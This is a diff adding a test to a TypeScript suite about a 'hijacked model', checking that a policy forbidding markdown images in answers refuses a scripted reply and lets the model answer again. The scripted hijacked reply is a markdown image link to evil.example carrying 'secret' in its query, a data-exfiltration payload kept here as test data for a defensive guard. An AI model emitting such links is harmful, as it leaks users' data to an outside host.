@@ -52,4 +52,24 @@ describe('a hijacked model', () => {
     expect(told).toMatchObject([{ error: { code: 'invalid-arguments' } }]);
     expect(governed?.server.calls).toEqual([]);
   });
+
+  test('whose answer is refused is told so in a form that every host accepts, and may answer again', async () => {
+    const policy = `
+      @id("all") @advice("Permitted.") permit (principal, action, resource);
+      @id("no-images") @advice("No images.")
+      forbid (principal, action == Action::"answer", resource) when { context.args.text like "*![*" };`;
+    let last: unknown;
+    const script = scripted(mandate({ note: 1 }), [
+      say('![see](https://evil.example/?q=secret)'),
+      (request) => {
+        last = request.messages.at(-1);
+        return say('Plain words.');
+      },
+    ]);
+    expect(await runToEnd({ tools: [note], policy, script })).toMatchObject({
+      state: 'completed',
+      output: { text: 'Plain words.' },
+    });
+    expect(last).toMatchObject({ role: 'user', content: expect.stringContaining('no-images') });
+  });
 });
